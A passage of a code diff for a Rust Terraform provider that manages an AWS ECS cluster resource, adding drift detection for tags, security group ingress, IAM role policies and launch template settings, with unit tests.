@@ -24,7 +24,7 @@ use crate::protocol::provider::{ApplyOutput, CallContext, ImportOutput, ReadOutp
 use crate::resources::Context;
 use crate::resources::fields::{self, Field};
 
-use super::TYPE_NAME;
+use super::{TYPE_NAME, schema};
 
 /// The time an operation has left, from the resource's `timeouts`.
 #[derive(Debug, Clone, Copy)]
@@ -34,8 +34,9 @@ struct Budget {
 
 impl Budget {
     fn new(limit: Duration) -> Self {
+        let now = Instant::now();
         Self {
-            until: Instant::now() + limit,
+            until: now.checked_add(limit).unwrap_or(now),
         }
     }
 
@@ -290,15 +291,15 @@ async fn run(
         Ok(())
     };
     let iam_step = async {
-        let role = iam_role::ensure_role(
-            c,
-            &names.instance_role,
-            &bp::instance_role_trust_policy(),
-            &bp::instance_role_policies(&c.partition),
-            &tags,
-        )
-        .await?;
+        let trust = bp::instance_role_trust_policy();
+        let policies = bp::instance_role_policies(&c.partition);
+        let role = iam_role::ensure_role(c, &names.instance_role, &trust, &policies, &tags).await?;
         progress.record(|ids| ids.instance_role_arn = Some(role));
+        // An adopted or changed role: exactly the blueprint's policies and trust.
+        tokio::try_join!(
+            iam_role::remove_other_policies(c, &names.instance_role, &policies),
+            iam_role::ensure_trust_policy(c, &names.instance_role, &trust),
+        )?;
         iam_role::ensure_instance_profile(c, &names.instance_profile, &names.instance_role).await?;
         progress.record(|ids| ids.instance_profile = Some(names.instance_profile.clone()));
         Ok(())
@@ -363,6 +364,10 @@ async fn run(
             ids.alb_zone_id = Some(lb.zone_id.clone());
         });
         load_balancer::set_attributes(c, &lb.arn, &lb_spec).await?;
+        let own_group = std::slice::from_ref(&lb_spec.security_group_id);
+        if lb.security_group_ids != own_group {
+            load_balancer::set_security_groups(c, &lb.arn, own_group).await?;
+        }
         let https = load_balancer::ensure_https(c, &lb.arn, &https_spec, &tags).await?;
         progress.record(|ids| ids.https_listener_arn = Some(https));
         let http = load_balancer::ensure_http_redirect(c, &lb.arn, &http_spec, &tags).await?;
@@ -413,7 +418,8 @@ async fn run(
         let cluster = ecs_cluster::describe(c, &names.cluster).await?;
         let attached = cluster.is_some_and(|cl| {
             cl.capacity_providers == vec![cp_spec.name.clone()]
-                && cl.default_strategy == vec![cp_spec.name.clone()]
+                && cl.default_strategy_items
+                    == vec![(cp_spec.name.clone(), bp::STRATEGY_WEIGHT, bp::STRATEGY_BASE)]
         });
         if !attached {
             retry_while(&call.cancel, budget.remaining(), update_in_progress, || {
@@ -504,6 +510,7 @@ fn template_drifted(o: &launch_template::ObservedTemplate, spec: &bp::LaunchTemp
         || o.root_volume_encrypted != spec.root_volume_encrypted
         || o.kms_key_id != spec.kms_key_id
         || o.instance_tags != spec.tags
+        || template_settings(o, Some(&spec.security_group_id)) != expected_template_settings(spec)
 }
 
 async fn group_step(
@@ -527,6 +534,11 @@ async fn group_step(
                 || found.spot_allocation_strategy != spec.spot_allocation_strategy
                 || !found.protected_from_scale_in
                 || found.launch_template_id.as_deref() != Some(spec.launch_template_id.as_str())
+                || found
+                    .launch_template_version
+                    .as_deref()
+                    .unwrap_or(bp::LAUNCH_TEMPLATE_VERSION)
+                    != bp::LAUNCH_TEMPLATE_VERSION
             {
                 auto_scaling_group::update(c, spec).await?;
             }
@@ -566,15 +578,39 @@ fn strings(items: &[String]) -> Value {
 #[derive(Debug, Default)]
 struct Observed {
     cluster: Option<ecs_cluster::ObservedCluster>,
-    role_arn: Option<String>,
-    alb_sg: Option<String>,
-    instance_sg: Option<String>,
+    role: Option<iam_role::ObservedRole>,
+    alb_group: Option<security_group::ObservedSecurityGroup>,
+    instance_group: Option<security_group::ObservedSecurityGroup>,
     template: Option<launch_template::ObservedTemplate>,
+    /// The launch template's own tags.
+    template_tags: Option<aws_tags::Tags>,
     group: Option<auto_scaling_group::ObservedGroup>,
     capacity_provider: Option<capacity_provider::ObservedCapacityProvider>,
     lb: Option<load_balancer::ObservedLoadBalancer>,
     deletion_protection: Option<bool>,
+    /// The load balancer's attributes, by key.
+    lb_attributes: BTreeMap<String, String>,
     https: Option<load_balancer::ObservedListener>,
+    http: Option<load_balancer::ObservedListener>,
+    /// Tags of the load balancer and its listeners, by ARN.
+    lb_tags: BTreeMap<String, aws_tags::Tags>,
+    /// The instance role's managed policies (ARNs) and inline policies (names), when the role
+    /// exists.
+    role_policies: Option<Vec<String>>,
+    role_inline_policies: Option<Vec<String>>,
+    /// The roles the instance profile holds, when the profile exists.
+    profile_roles: Option<Vec<String>>,
+}
+
+/// `Ok(None)` for an IAM entity that does not exist.
+async fn unless_missing<T>(
+    read: impl std::future::Future<Output = Result<T, AwsError>>,
+) -> Result<Option<T>, AwsError> {
+    match read.await {
+        Ok(v) => Ok(Some(v)),
+        Err(e) if e.code() == Some("NoSuchEntity") => Ok(None),
+        Err(e) => Err(e),
+    }
 }
 
 async fn observe(
@@ -584,9 +620,12 @@ async fn observe(
     template_id: Option<&str>,
 ) -> Result<Observed, AwsError> {
     let names = bp::names(name);
-    let (cluster, role_arn, group, cp, lb) = tokio::try_join!(
+    let (cluster, role, role_policies, role_inline_policies, profile_roles, group, cp, lb) = tokio::try_join!(
         ecs_cluster::describe(c, &names.cluster),
-        iam_role::role_arn(c, &names.instance_role),
+        iam_role::describe_role(c, &names.instance_role),
+        unless_missing(iam_role::attached_policies(c, &names.instance_role)),
+        unless_missing(iam_role::inline_policies(c, &names.instance_role)),
+        iam_role::instance_profile_roles(c, &names.instance_profile),
         auto_scaling_group::describe(c, &names.auto_scaling_group),
         capacity_provider::describe(c, &names.capacity_provider),
         load_balancer::describe(c, &names.load_balancer),
@@ -599,21 +638,19 @@ async fn observe(
         Some(id) => Some(id.to_owned()),
         None => launch_template::find(c, &names.launch_template).await?,
     };
-    let (alb_sg, instance_sg, template, lb_details) = tokio::try_join!(
+    // Both security groups in one call; the load balancer's and its listeners' tags in one call.
+    let (groups, template, template_tags, lb_details) = tokio::try_join!(
         async {
             match &vpc {
-                Some(v) => Ok(security_group::find(c, v, &names.alb_security_group)
-                    .await?
-                    .map(|g| g.0)),
-                None => Ok(None),
-            }
-        },
-        async {
-            match &vpc {
-                Some(v) => Ok(security_group::find(c, v, &names.instance_security_group)
-                    .await?
-                    .map(|g| g.0)),
-                None => Ok(None),
+                Some(v) => {
+                    security_group::describe_by_names(
+                        c,
+                        v,
+                        &[&names.alb_security_group, &names.instance_security_group],
+                    )
+                    .await
+                }
+                None => Ok(Vec::new()),
             }
         },
         async {
@@ -623,34 +660,372 @@ async fn observe(
             }
         },
         async {
+            match &template_id {
+                Some(id) => launch_template::tags(c, id).await.map(Some),
+                None => Ok(None),
+            }
+        },
+        async {
             match &lb {
                 Some(l) => {
-                    let (protection, listeners) = tokio::try_join!(
-                        load_balancer::deletion_protection(c, &l.arn),
-                        load_balancer::listeners(c, &l.arn)
-                    )?;
-                    Ok::<_, AwsError>(Some((protection, listeners)))
+                    let (attributes, (listeners, tags)) =
+                        tokio::try_join!(load_balancer::attributes(c, &l.arn), async {
+                            let listeners = load_balancer::listeners(c, &l.arn).await?;
+                            let mut arns = vec![l.arn.clone()];
+                            arns.extend(listeners.iter().map(|x| x.arn.clone()));
+                            let tags = aws_tags::read_elbv2(c, &arns).await?;
+                            Ok::<_, AwsError>((listeners, tags))
+                        })?;
+                    Ok::<_, AwsError>(Some((attributes, listeners, tags)))
                 }
                 None => Ok(None),
             }
         },
     )?;
-    let (deletion_protection, https) = match lb_details {
-        Some((p, listeners)) => (Some(p), listeners.into_iter().find(|l| l.port == 443)),
-        None => (None, None),
+    let (lb_attributes, https, http, lb_tags) = match lb_details {
+        Some((attributes, listeners, tags)) => {
+            let on_port = |port: i32| listeners.iter().find(|l| l.port == port).cloned();
+            (
+                Some(attributes),
+                on_port(bp::HTTPS_PORT),
+                on_port(bp::http_listener().port),
+                tags,
+            )
+        }
+        None => (None, None, None, BTreeMap::new()),
     };
+    let deletion_protection = lb_attributes
+        .as_ref()
+        .map(|a| load_balancer::attribute_on(a, load_balancer::DELETION_PROTECTION));
+    let group_named = |n: &str| groups.iter().find(|g| g.name == n).cloned();
     Ok(Observed {
         cluster,
-        role_arn,
-        alb_sg,
-        instance_sg,
+        role,
+        alb_group: group_named(&names.alb_security_group),
+        instance_group: group_named(&names.instance_security_group),
         template,
+        template_tags,
         group: group.filter(|g| !g.deleting),
         capacity_provider: cp,
         lb,
         deletion_protection,
+        lb_attributes: lb_attributes.unwrap_or_default(),
         https,
+        http,
+        lb_tags,
+        role_policies,
+        role_inline_policies,
+        profile_roles,
     })
+}
+
+/// The provider's default tags, as far as they are known.
+fn default_tags(ctx: &Context) -> aws_tags::Tags {
+    ctx.config()
+        .and_then(|c| c.default_tags.known().cloned())
+        .unwrap_or_default()
+        .into_iter()
+        .filter_map(|(k, v)| Some((k, v.known()?.clone())))
+        .collect()
+}
+
+/// The user's tags as seen across objects, and the provider's own tags as seen.
+///
+/// Each object comes with the provider tags it must carry (`fixed`): those keys are left out of
+/// the comparison with `desired` (the group's `Name` is not the user's `Name`). Every key whose
+/// value on some object differs from `desired` (changed, added or removed) takes the value found
+/// on the first such object, so the result equals `desired` exactly when no object drifted.
+/// Likewise for `managed`, the provider tags that `managed_tags` shows. Keys starting with `aws:`
+/// belong to AWS and are ignored.
+fn tags_seen(
+    desired: &aws_tags::Tags,
+    managed: &aws_tags::Tags,
+    objects: &[(&aws_tags::Tags, aws_tags::Tags)],
+) -> (aws_tags::Tags, aws_tags::Tags) {
+    let mut user: BTreeMap<String, Option<String>> = BTreeMap::new();
+    let mut own: BTreeMap<String, Option<String>> = BTreeMap::new();
+    for (observed, fixed) in objects {
+        let keys: std::collections::BTreeSet<&String> = desired
+            .keys()
+            .chain(observed.keys())
+            .filter(|k| !k.starts_with("aws:") && !fixed.contains_key(*k))
+            .collect();
+        for k in keys {
+            let found = observed.get(k);
+            if found != desired.get(k) && !user.contains_key(k) {
+                user.insert(k.clone(), found.cloned());
+            }
+        }
+        for (k, want) in fixed.iter().filter(|(k, _)| managed.contains_key(*k)) {
+            let found = observed.get(k);
+            if found != Some(want) && !own.contains_key(k) {
+                own.insert(k.clone(), found.cloned());
+            }
+        }
+    }
+    let apply = |base: &aws_tags::Tags, changes: BTreeMap<String, Option<String>>| {
+        let mut out = base.clone();
+        for (k, v) in changes {
+            match v {
+                Some(v) => out.insert(k, v),
+                None => out.remove(&k),
+            };
+        }
+        out
+    };
+    (apply(desired, user), apply(managed, own))
+}
+
+/// Records the tags found on every object: `managed_tags` always, `tags_all` and `tags` when
+/// some object's tags differ from `tags_all`.
+fn apply_observed_tags(state: &mut Value, o: &Observed, default_tags: &aws_tags::Tags) {
+    let Some(name) = fields::string(state, "name").known().cloned() else {
+        return;
+    };
+    let names = bp::names(&name);
+    let owner = || BTreeMap::from([(OWNER_TAG.to_owned(), name.clone())]);
+    let named = |n: &str| {
+        let mut t = owner();
+        t.insert("Name".into(), n.to_owned());
+        t
+    };
+    let mut objects: Vec<(&aws_tags::Tags, aws_tags::Tags)> = Vec::new();
+    if let Some(cl) = &o.cluster {
+        objects.push((&cl.tags, owner()));
+    }
+    if let Some(r) = &o.role {
+        objects.push((&r.tags, owner()));
+    }
+    if let Some(g) = &o.alb_group {
+        objects.push((&g.tags, named(&names.alb_security_group)));
+    }
+    if let Some(g) = &o.instance_group {
+        objects.push((&g.tags, named(&names.instance_security_group)));
+    }
+    if let Some(t) = &o.template {
+        objects.push((&t.instance_tags, owner()));
+        // DescribeTags cannot tell a template that is gone from one without tags.
+        if let Some(tags) = &o.template_tags {
+            objects.push((tags, named(&names.launch_template)));
+        }
+    }
+    if let Some(g) = &o.group {
+        let mut fixed = named(&bp::instance_name(&name));
+        fixed.insert(bp::ECS_MANAGED_TAG.into(), "true".into());
+        objects.push((&g.tags, fixed));
+    }
+    if let Some(cp) = &o.capacity_provider {
+        objects.push((&cp.tags, owner()));
+    }
+    for t in o.lb_tags.values() {
+        objects.push((t, owner()));
+    }
+    let desired: aws_tags::Tags = fields::string_map(state, "tags_all")
+        .known()
+        .map(|m| {
+            m.iter()
+                .filter_map(|(k, v)| Some((k.clone(), v.known()?.clone())))
+                .collect()
+        })
+        .unwrap_or_default();
+    let (user, managed) = tags_seen(&desired, &super::schema::managed_tags(&name), &objects);
+    set(state, "managed_tags", fields::string_map_value(&managed));
+    if user != desired {
+        let own: aws_tags::Tags = user
+            .iter()
+            .filter(|(k, v)| default_tags.get(*k) != Some(*v))
+            .map(|(k, v)| (k.clone(), v.clone()))
+            .collect();
+        set(state, "tags_all", fields::string_map_value(&user));
+        set(
+            state,
+            "tags",
+            if own.is_empty() {
+                Value::Null
+            } else {
+                fields::string_map_value(&own)
+            },
+        );
+    }
+}
+
+/// An observed group's rules as its ingress attribute shows them; the load balancer's group is
+/// named by the attribute that holds its ID.
+fn ingress(
+    group: Option<&security_group::ObservedSecurityGroup>,
+    alb_group_id: Option<&str>,
+) -> Value {
+    match group {
+        Some(g) => super::schema::ingress_value(g.rules.iter().map(|r| {
+            let source = if Some(r.source.as_str()) == alb_group_id {
+                super::schema::ALB_GROUP_SOURCE.to_owned()
+            } else {
+                r.source.clone()
+            };
+            (r.protocol.clone(), r.from_port, r.to_port, source)
+        })),
+        None => Value::Null,
+    }
+}
+
+/// An ID as the settings attributes show it: `placeholder` when it is the cluster's own object.
+fn own_or_id(id: &str, own: Option<&str>, placeholder: &str) -> String {
+    if Some(id) == own {
+        placeholder.to_owned()
+    } else {
+        id.to_owned()
+    }
+}
+
+/// The load balancer's fixed settings as `load_balancer_settings` shows them.
+fn load_balancer_settings(o: &Observed, alb_group_id: Option<&str>) -> Option<aws_tags::Tags> {
+    let lb = o.lb.as_ref()?;
+    let listener = |l: Option<&load_balancer::ObservedListener>| {
+        l.map_or_else(
+            || schema::NONE.to_owned(),
+            |l| schema::listener_text(&l.protocol, l.port, &l.default_actions),
+        )
+    };
+    Some(schema::load_balancer_settings(
+        load_balancer::attribute_on(&o.lb_attributes, load_balancer::DROP_INVALID_HEADER_FIELDS),
+        schema::ids_text(
+            &lb.security_group_ids,
+            alb_group_id,
+            schema::ALB_GROUP_SOURCE,
+        ),
+        listener(o.http.as_ref()),
+        listener(o.https.as_ref()),
+    ))
+}
+
+/// The group's template binding and the cluster's capacity providers as `capacity_binding`
+/// shows them.
+fn capacity_binding(o: &Observed) -> Option<aws_tags::Tags> {
+    if o.group.is_none() && o.cluster.is_none() {
+        return None;
+    }
+    let own_template = o.template.as_ref().map(|t| t.id.as_str());
+    let (template, protection) = match &o.group {
+        Some(g) => (
+            schema::template_binding_text(
+                g.launch_template_id
+                    .as_deref()
+                    .map(|id| own_or_id(id, own_template, schema::LAUNCH_TEMPLATE_SOURCE))
+                    .as_deref(),
+                g.launch_template_version.as_deref(),
+            ),
+            g.protected_from_scale_in.to_string(),
+        ),
+        None => (schema::NONE.to_owned(), schema::NONE.to_owned()),
+    };
+    let (providers, strategy) = match &o.cluster {
+        Some(cl) => (
+            schema::names_text(&cl.capacity_providers),
+            schema::strategy_text(&cl.default_strategy_items),
+        ),
+        None => (schema::NONE.to_owned(), schema::NONE.to_owned()),
+    };
+    Some(schema::capacity_binding(
+        template, protection, providers, strategy,
+    ))
+}
+
+/// The instance role and profile as `instance_role_settings` shows them.
+fn instance_role_settings(o: &Observed) -> Option<aws_tags::Tags> {
+    if o.role.is_none() && o.profile_roles.is_none() {
+        return None;
+    }
+    let none = || schema::NONE.to_owned();
+    Some(schema::instance_role_settings(
+        o.role
+            .as_ref()
+            .and_then(|r| r.trust_policy.as_deref())
+            .map_or_else(none, iam_role::normalized_policy),
+        o.role_policies
+            .as_deref()
+            .map_or_else(none, schema::policies_text),
+        o.role_inline_policies
+            .as_deref()
+            .map_or_else(none, schema::names_text),
+        o.profile_roles
+            .as_deref()
+            .map_or_else(none, schema::names_text),
+    ))
+}
+
+/// A launch template version as `launch_template_settings` shows it; the instances' security
+/// group is named by the attribute that holds its ID.
+fn template_settings(
+    t: &launch_template::ObservedTemplate,
+    instance_group_id: Option<&str>,
+) -> aws_tags::Tags {
+    let mut interfaces: Vec<String> = t
+        .network_interfaces
+        .iter()
+        .map(|n| {
+            schema::interface_text(
+                n.device_index,
+                n.associate_public_ip,
+                schema::ids_text(
+                    &n.security_groups,
+                    instance_group_id,
+                    schema::INSTANCE_GROUP_SOURCE,
+                ),
+            )
+        })
+        .collect();
+    if !t.security_groups.is_empty() {
+        interfaces.push(format!(
+            "security_groups={}",
+            schema::ids_text(
+                &t.security_groups,
+                instance_group_id,
+                schema::INSTANCE_GROUP_SOURCE
+            )
+        ));
+    }
+    let devices: Vec<String> = t
+        .block_devices
+        .iter()
+        .map(|b| schema::block_device_text(&b.device_name, b.volume_type.as_deref(), b.encrypted))
+        .collect();
+    let listed = |items: Vec<String>| {
+        if items.is_empty() {
+            schema::NONE.to_owned()
+        } else {
+            items.join("; ")
+        }
+    };
+    schema::launch_template_settings(
+        t.user_data.clone().unwrap_or_default(),
+        listed(interfaces),
+        listed(devices),
+        t.instance_profile
+            .clone()
+            .unwrap_or_else(|| schema::NONE.to_owned()),
+    )
+}
+
+/// What `template_settings` reads from a version made from `spec`.
+fn expected_template_settings(spec: &bp::LaunchTemplateSpec) -> aws_tags::Tags {
+    schema::launch_template_settings(
+        spec.user_data.clone(),
+        schema::interface_text(
+            Some(0),
+            Some(spec.associate_public_ip),
+            schema::INSTANCE_GROUP_SOURCE.to_owned(),
+        ),
+        schema::block_device_text(
+            &spec.root_device_name,
+            Some(&spec.root_volume_type),
+            Some(spec.root_volume_encrypted),
+        ),
+        spec.instance_profile_name.clone(),
+    )
+}
+
+fn map_or_null(map: Option<aws_tags::Tags>) -> Value {
+    map.map_or(Value::Null, |m| fields::string_map_value(&m))
 }
 
 /// Writes what AWS says over `state`; objects that are gone leave their IDs null so the next
@@ -665,16 +1040,52 @@ fn apply_observed(state: &mut Value, o: &Observed) {
             Value::bool(cl.container_insights),
         );
     }
-    set(state, "instance_role_arn", opt_string(o.role_arn.as_ref()));
+    set(
+        state,
+        "instance_role_arn",
+        opt_string(o.role.as_ref().map(|r| &r.arn)),
+    );
+    let alb_group_id = o.alb_group.as_ref().map(|g| g.id.clone());
     set(
         state,
         "alb_security_group_id",
-        opt_string(o.alb_sg.as_ref()),
+        opt_string(alb_group_id.as_ref()),
     );
     set(
         state,
         "instance_security_group_id",
-        opt_string(o.instance_sg.as_ref()),
+        opt_string(o.instance_group.as_ref().map(|g| &g.id)),
+    );
+    set(
+        state,
+        "alb_security_group_ingress",
+        ingress(o.alb_group.as_ref(), alb_group_id.as_deref()),
+    );
+    set(
+        state,
+        "instance_security_group_ingress",
+        ingress(o.instance_group.as_ref(), alb_group_id.as_deref()),
+    );
+    set(
+        state,
+        "load_balancer_settings",
+        map_or_null(load_balancer_settings(o, alb_group_id.as_deref())),
+    );
+    set(state, "capacity_binding", map_or_null(capacity_binding(o)));
+    set(
+        state,
+        "instance_role_settings",
+        map_or_null(instance_role_settings(o)),
+    );
+    let instance_group_id = o.instance_group.as_ref().map(|g| g.id.as_str());
+    set(
+        state,
+        "launch_template_settings",
+        map_or_null(
+            o.template
+                .as_ref()
+                .map(|t| template_settings(t, instance_group_id)),
+        ),
     );
     match &o.template {
         Some(t) => {
@@ -750,8 +1161,20 @@ fn apply_observed(state: &mut Value, o: &Observed) {
                 "target_capacity",
                 Value::number(i64::from(cp.target_capacity)),
             );
+            set(
+                state,
+                "capacity_provider_settings",
+                Value::string(super::schema::capacity_provider_settings(
+                    cp.managed_scaling,
+                    cp.managed_termination_protection,
+                    cp.managed_draining,
+                )),
+            );
         }
-        None => set(state, "capacity_provider_name", Value::Null),
+        None => {
+            set(state, "capacity_provider_name", Value::Null);
+            set(state, "capacity_provider_settings", Value::Null);
+        }
     }
     match &o.lb {
         Some(lb) => {
@@ -811,12 +1234,7 @@ pub async fn read(ctx: &Context, state: Value) -> ReadOutput {
         .known()
         .cloned();
     match observe(clients, &name, vpc.as_deref(), template.as_deref()).await {
-        Ok(o)
-            if o.cluster.is_none()
-                && o.group.is_none()
-                && o.lb.is_none()
-                && o.role_arn.is_none() =>
-        {
+        Ok(o) if o.cluster.is_none() && o.group.is_none() && o.lb.is_none() && o.role.is_none() => {
             // Everything is gone: Terraform plans to create it again.
             ReadOutput {
                 new_state: Value::Null,
@@ -827,6 +1245,7 @@ pub async fn read(ctx: &Context, state: Value) -> ReadOutput {
         Ok(o) => {
             let mut new_state = state;
             apply_observed(&mut new_state, &o);
+            apply_observed_tags(&mut new_state, &o, &default_tags(ctx));
             ReadOutput {
                 new_state,
                 private: Vec::new(),
@@ -879,13 +1298,10 @@ pub async fn import(ctx: &Context, schema_defaults: Value, name: String) -> Impo
     // Tags: everything but the ownership tag; the provider's default tags are not the resource's own.
     let mut tags_all = cluster.tags.clone();
     tags_all.remove(OWNER_TAG);
-    let default_tags = ctx
-        .config()
-        .and_then(|c| c.default_tags.known().cloned())
-        .unwrap_or_default();
+    let default_tags = default_tags(ctx);
     let own: BTreeMap<String, String> = tags_all
         .iter()
-        .filter(|(k, v)| default_tags.get(*k).and_then(|d| d.known()) != Some(*v))
+        .filter(|(k, v)| default_tags.get(*k) != Some(*v))
         .map(|(k, v)| (k.clone(), v.clone()))
         .collect();
     set(&mut state, "tags_all", fields::string_map_value(&tags_all));
@@ -899,6 +1315,7 @@ pub async fn import(ctx: &Context, schema_defaults: Value, name: String) -> Impo
         },
     );
     apply_observed(&mut state, &o);
+    apply_observed_tags(&mut state, &o, &default_tags);
     // Imported state is wholly known: what AWS did not report is null.
     if let Value::Object(attrs) = &mut state {
         for v in attrs.values_mut() {
@@ -1058,4 +1475,755 @@ async fn delete_all(
     ecs_cluster::delete(c, &names.cluster).await?;
     iam_role::delete(c, &names.instance_profile, &names.instance_role).await?;
     Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn tags(pairs: &[(&str, &str)]) -> aws_tags::Tags {
+        pairs
+            .iter()
+            .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
+            .collect()
+    }
+
+    fn input() -> ClusterInput {
+        ClusterInput {
+            name: "prod".into(),
+            vpc_id: "vpc-1".into(),
+            public_subnet_ids: vec!["subnet-a".into(), "subnet-b".into()],
+            private_subnet_ids: vec!["subnet-c".into(), "subnet-d".into()],
+            certificate_arn: "arn:aws:acm:eu-west-1:123456789012:certificate/x".into(),
+            ssl_policy: super::super::schema::DEFAULT_SSL_POLICY.into(),
+            instance_types: vec!["m6i.large".into()],
+            min_size: 2,
+            max_size: 10,
+            on_demand_base_capacity: 2,
+            on_demand_percentage_above_base: 0,
+            spot_allocation_strategy: "capacity-optimized".into(),
+            target_capacity: 80,
+            ami_id: "ami-1".into(),
+            root_volume_size: 30,
+            ebs_kms_key_id: None,
+            container_insights: true,
+            deletion_protection: true,
+            tags: tags(&[("Team", "core"), ("Name", "mine")]),
+        }
+    }
+
+    fn managed() -> aws_tags::Tags {
+        super::super::schema::managed_tags("prod")
+    }
+
+    fn owner() -> aws_tags::Tags {
+        tags(&[(OWNER_TAG, "prod")])
+    }
+
+    #[test]
+    fn tags_seen_equal_the_desired_tags_when_every_object_carries_them() {
+        let desired = tags(&[("Team", "core"), ("Name", "mine")]);
+        let cluster = tags(&[("Team", "core"), ("Name", "mine"), (OWNER_TAG, "prod")]);
+        // The group's Name is the provider's, not the user's; aws: keys are AWS's own.
+        let group = tags(&[
+            ("Team", "core"),
+            ("Name", "prod-ecs-instance"),
+            (OWNER_TAG, "prod"),
+            (bp::ECS_MANAGED_TAG, "true"),
+            ("aws:cloudformation:stack-name", "x"),
+        ]);
+        let group_fixed = tags(&[
+            (OWNER_TAG, "prod"),
+            ("Name", "prod-ecs-instance"),
+            (bp::ECS_MANAGED_TAG, "true"),
+        ]);
+        let (user, own) = tags_seen(
+            &desired,
+            &managed(),
+            &[(&cluster, owner()), (&group, group_fixed)],
+        );
+        assert_eq!(user, desired);
+        assert_eq!(own, managed());
+    }
+
+    #[test]
+    fn tags_seen_show_every_key_changed_added_or_removed_on_any_object() {
+        let desired = tags(&[("Team", "core"), ("Env", "prod")]);
+        let cluster = tags(&[("Team", "core"), ("Env", "prod"), (OWNER_TAG, "prod")]);
+        let group = tags(&[("Team", "rogue"), ("Env", "prod"), (OWNER_TAG, "prod")]);
+        let lb = tags(&[("Team", "core"), ("Extra", "x"), (OWNER_TAG, "prod")]);
+        let (user, own) = tags_seen(
+            &desired,
+            &managed(),
+            &[(&cluster, owner()), (&group, owner()), (&lb, owner())],
+        );
+        assert_eq!(user, tags(&[("Team", "rogue"), ("Extra", "x")]));
+        assert_eq!(own, managed());
+    }
+
+    #[test]
+    fn tags_seen_show_a_provider_tag_removed_or_changed() {
+        let desired = tags(&[("Team", "core")]);
+        let group = tags(&[("Team", "core"), (OWNER_TAG, "prod")]);
+        let role = tags(&[("Team", "core"), (OWNER_TAG, "other")]);
+        let mut group_fixed = owner();
+        group_fixed.insert(bp::ECS_MANAGED_TAG.into(), "true".into());
+        let (user, own) = tags_seen(
+            &desired,
+            &managed(),
+            &[(&group, group_fixed), (&role, owner())],
+        );
+        assert_eq!(user, desired);
+        assert_eq!(own, tags(&[(OWNER_TAG, "other")]));
+    }
+
+    #[test]
+    fn fixed_tags_checked_on_refresh_are_those_the_blueprint_sets() {
+        let i = input();
+        let group = bp::auto_scaling_group(&i, "lt-1");
+        let mut want = i.tags.clone();
+        want.insert(OWNER_TAG.into(), "prod".into());
+        want.insert("Name".into(), bp::instance_name("prod"));
+        want.insert(bp::ECS_MANAGED_TAG.into(), "true".into());
+        assert_eq!(group.tags, want);
+        let (_, own) = tags_seen(
+            &i.tags,
+            &managed(),
+            &[(&group.tags, {
+                let mut f = owner();
+                f.insert("Name".into(), bp::instance_name("prod"));
+                f.insert(bp::ECS_MANAGED_TAG.into(), "true".into());
+                f
+            })],
+        );
+        assert_eq!(own, managed());
+    }
+
+    #[test]
+    fn planned_fixed_settings_are_what_the_blueprint_builds() {
+        let i = input();
+        let planned: BTreeMap<&str, Value> = super::super::schema::fixed_settings(Some("prod"))
+            .into_iter()
+            .collect();
+        let lt = bp::launch_template(&i, "prod-ecs-instance", "sg-1");
+        assert_eq!(
+            planned["instance_metadata_options"],
+            Value::string(super::super::schema::metadata_options(
+                lt.http_tokens_required,
+                lt.http_put_response_hop_limit
+            ))
+        );
+        let cp = bp::capacity_provider(&i, "arn:asg");
+        assert_eq!(
+            planned["capacity_provider_settings"],
+            Value::string(super::super::schema::capacity_provider_settings(
+                true,
+                cp.managed_termination_protection,
+                cp.managed_draining
+            ))
+        );
+        assert_eq!(
+            planned["managed_tags"],
+            fields::string_map_value(&tags(&[(OWNER_TAG, "prod"), (bp::ECS_MANAGED_TAG, "true")]))
+        );
+        let without_name: BTreeMap<&str, Value> = super::super::schema::fixed_settings(None)
+            .into_iter()
+            .collect();
+        assert!(
+            !without_name["managed_tags"].is_known(),
+            "unknown until the name is known"
+        );
+    }
+
+    fn group(id: &str, rules: &[(&str, i32, i32, &str)]) -> security_group::ObservedSecurityGroup {
+        security_group::ObservedSecurityGroup {
+            id: id.into(),
+            name: id.into(),
+            rules: rules
+                .iter()
+                .map(|(p, f, t, s)| security_group::Rule {
+                    protocol: (*p).into(),
+                    from_port: *f,
+                    to_port: *t,
+                    source: (*s).into(),
+                })
+                .collect(),
+            tags: BTreeMap::new(),
+        }
+    }
+
+    #[test]
+    fn observed_blueprint_rules_read_as_the_planned_ingress() {
+        let alb = group(
+            "sg-alb",
+            &[
+                ("tcp", 443, 443, "::/0"),
+                ("tcp", 80, 80, "0.0.0.0/0"),
+                ("tcp", 443, 443, "0.0.0.0/0"),
+                ("tcp", 80, 80, "::/0"),
+            ],
+        );
+        let instances = group("sg-i", &[("tcp", 32768, 65535, "sg-alb")]);
+        let planned: BTreeMap<&str, Value> = super::super::schema::fixed_settings(Some("prod"))
+            .into_iter()
+            .collect();
+        assert_eq!(
+            ingress(Some(&alb), Some("sg-alb")),
+            planned["alb_security_group_ingress"]
+        );
+        assert_eq!(
+            ingress(Some(&instances), Some("sg-alb")),
+            planned["instance_security_group_ingress"]
+        );
+        assert_eq!(
+            planned["instance_security_group_ingress"],
+            Value::List(vec![Value::string(
+                "tcp 32768-65535 from alb_security_group_id"
+            )])
+        );
+    }
+
+    #[test]
+    fn an_extra_or_missing_rule_reads_differently_from_the_plan() {
+        let instances = group(
+            "sg-i",
+            &[
+                ("tcp", 32768, 65535, "sg-alb"),
+                ("tcp", 22, 22, "10.0.0.0/8"),
+                ("all", -1, -1, "sg-other"),
+            ],
+        );
+        assert_eq!(
+            ingress(Some(&instances), Some("sg-alb")),
+            Value::List(vec![
+                Value::string("all from sg-other"),
+                Value::string("tcp 22 from 10.0.0.0/8"),
+                Value::string("tcp 32768-65535 from alb_security_group_id"),
+            ])
+        );
+        let alb = group("sg-alb", &[("tcp", 443, 443, "0.0.0.0/0")]);
+        assert_ne!(
+            ingress(Some(&alb), Some("sg-alb")),
+            super::super::schema::planned_ingress(&bp::alb_ingress())
+        );
+        assert_eq!(ingress(None, Some("sg-alb")), Value::Null);
+    }
+
+    /// A named change to an observed object: the settings key it must show on, and the change.
+    type Change<T> = (&'static str, Box<dyn Fn(&mut T)>);
+
+    fn planned_map(attr: &str) -> Value {
+        super::super::schema::fixed_settings(Some("prod"))
+            .into_iter()
+            .find(|(a, _)| *a == attr)
+            .map(|(_, v)| v)
+            .expect("a fixed setting")
+    }
+
+    fn shown(map: Option<aws_tags::Tags>) -> Value {
+        map_or_null(map)
+    }
+
+    /// What DescribeLaunchTemplateVersions reports for a version made from `spec`.
+    fn observed_template(spec: &bp::LaunchTemplateSpec) -> launch_template::ObservedTemplate {
+        launch_template::ObservedTemplate {
+            id: "lt-1".into(),
